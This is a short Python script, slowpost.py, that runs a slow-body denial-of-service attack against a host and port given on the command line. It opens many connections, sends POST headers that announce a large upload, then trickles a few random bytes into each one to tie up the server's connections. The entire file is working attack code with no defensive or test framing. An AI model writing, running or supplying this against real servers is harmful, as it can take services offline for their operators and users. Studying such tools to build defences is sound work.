"""Slow bodies: connections that announce a long upload and send a few bytes of it now and then."""

from __future__ import annotations

import random
import socket
import sys
import time


def main() -> None:
    """slowpost.py HOST PORT CONNECTIONS SECONDS."""
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    head = f"POST /app/upload/2 HTTP/1.1\r\nHost: {host}\r\nContent-Length: {random.randrange(5000, 90000)}\r\n\r\n"
    end = time.time() + seconds
    held: list[socket.socket] = []
    while time.time() < end:
        if len(held) < count:
            try:
                held.append(socket.create_connection((host, port), timeout=4))
                held[-1].sendall(head.encode())
            except OSError:
                pass
        for sock in random.sample(held, min(8, len(held))):
            try:
                sock.sendall(random.randbytes(random.randint(1, 12)))
            except OSError:
                held.remove(sock)
        time.sleep(0.3)


if __name__ == "__main__":
    main()
